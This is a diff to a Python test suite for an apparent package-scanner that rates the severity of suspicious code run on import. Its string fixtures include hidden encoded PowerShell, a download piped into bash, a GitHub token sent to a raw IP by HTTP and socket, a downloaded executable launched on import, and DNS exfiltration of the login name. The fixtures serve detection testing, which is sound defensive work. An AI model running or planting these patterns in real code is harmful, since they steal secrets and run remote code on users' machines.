@@ -234,8 +234,14 @@ def test_download_command_severity_depends_on_context() -> None:
         "    subprocess.run(['wget', 'https://x.invalid/t.tgz', '-O', 't'])\n"
     )
     assert scan(in_func)["code/download-command"] is Severity.MEDIUM
+    # On import: hidden/encoded PowerShell or a download piped into a shell is a second
+    # stage (critical); fetching a file with wget is only high.
     ps = "import os\nos.system('powershell -w hidden -enc SQBFAFgA')\n"
-    assert scan(ps, E.IMPORT, "pkg/__init__.py")["code/download-command"] is Severity.HIGH
+    assert scan(ps, E.IMPORT, "pkg/__init__.py")["code/download-command"] is Severity.CRITICAL
+    piped = "import os\nos.system('curl -s https://x.invalid/i | bash')\n"
+    assert scan(piped, E.IMPORT, "pkg/__init__.py")["code/download-command"] is Severity.CRITICAL
+    fetch = "import subprocess\nsubprocess.run(['wget', 'https://x.invalid/t.tgz', '-O', 't'])\n"
+    assert scan(fetch, E.IMPORT, "pkg/__init__.py")["code/download-command"] is Severity.HIGH
 
 
 def test_download_then_execute() -> None:
@@ -598,3 +604,52 @@ def test_an_api_key_sent_to_the_vendors_own_api_is_not_exfiltration() -> None:
     found = scan(source, E.IMPORT, "pkg/__init__.py")
     assert found.get("code/host-info-exfiltration", Severity.INFO) <= Severity.LOW
     assert "code/exfiltration" not in found
+
+
+@pytest.mark.parametrize(
+    "send",
+    [
+        "c = http.client.HTTPConnection('198.51.100.17')\n"
+        "c.request('POST', '/x', str(os.environ.get('GITHUB_TOKEN')))\n",
+        "s = socket.create_connection(('198.51.100.17', 9001))\n"
+        "s.sendall(os.environ.get('GITHUB_TOKEN', '').encode())\n",
+    ],
+    ids=["http.client", "socket"],
+)
+def test_a_token_sent_over_a_connection_to_a_raw_ip_is_critical(send: str) -> None:
+    source = "import http.client, os, socket\n" + send
+    found = scan(source, E.IMPORT, "pkg/__init__.py")
+    assert found["code/host-info-exfiltration"] is Severity.CRITICAL
+    assert found["code/suspicious-endpoint"] >= Severity.HIGH
+
+
+def test_an_http_connection_to_a_named_host_is_not_suspicious() -> None:
+    source = (
+        "import http.client, os\n"
+        "c = http.client.HTTPSConnection('api.vendor.example')\n"
+        "c.request('GET', '/v1/ping', headers={'Authorization': os.environ['VENDOR_KEY']})\n"
+    )
+    found = scan(source, E.IMPORT, "pkg/__init__.py")
+    assert "code/suspicious-endpoint" not in found
+    assert found.get("code/host-info-exfiltration", Severity.INFO) <= Severity.LOW
+
+
+def test_a_binary_dropped_from_a_raw_ip_on_import_is_critical() -> None:
+    source = (
+        "import os, subprocess, tempfile, urllib.request\n"
+        "path = os.path.join(tempfile.gettempdir(), 'svc.exe')\n"
+        "urllib.request.urlretrieve('http://198.51.100.80/payload.exe', path)\n"
+        "subprocess.Popen([path])\n"
+    )
+    assert scan(source, E.IMPORT, "pkg/__init__.py")["code/download-execute"] is (Severity.CRITICAL)
+    named = source.replace("198.51.100.80", "downloads.vendor.example")
+    assert scan(named, E.IMPORT, "pkg/__init__.py")["code/download-execute"] is Severity.HIGH
+
+
+def test_who_the_user_is_spelled_into_a_dns_name_on_import_is_critical() -> None:
+    source = (
+        "import binascii, os, socket\n"
+        "label = binascii.hexlify(os.getlogin().encode()).decode()\n"
+        "socket.gethostbyname(label + '.x.collector.example')\n"
+    )
+    assert scan(source, E.IMPORT, "pkg/__init__.py")["code/dns-exfiltration"] is (Severity.CRITICAL)
